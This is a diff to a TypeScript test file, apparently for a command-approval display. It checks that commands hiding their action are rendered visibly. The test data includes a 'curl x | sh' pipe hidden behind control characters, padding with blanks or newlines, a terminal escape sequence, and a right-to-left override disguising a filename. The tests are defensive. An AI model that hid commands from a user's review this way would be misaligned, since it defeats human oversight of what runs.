@@ -21,7 +21,7 @@ const asking = (command: string) =>
 describe('A command that hides what it does', () => {
   for (const [name, command, shown] of [
     ['behind a C1 control', 'npm test \u009D;curl x | sh', 'npm test ⟨U+009D⟩;curl x | sh'],
-    ['behind a terminal sequence', 'true \u001B]0;echo PWNED', 'true ␛]0;echo PWNED'],
+    ['behind a terminal sequence', 'true \u001B]0;echo PWNED', 'true ⟨U+001B⟩]0;echo PWNED'],
     ['behind blanks', `npm test${' '.repeat(80_010)};curl`, 'npm test⟨80,010 blanks⟩;curl'],
     ['behind lines', `npm test${'\n'.repeat(61)};curl`, 'npm test\n⟨60 empty lines⟩\n;curl'],
     ['in another order', 'rm \u202Etxt.exe', 'rm ⟨U+202E⟩txt.exe'],
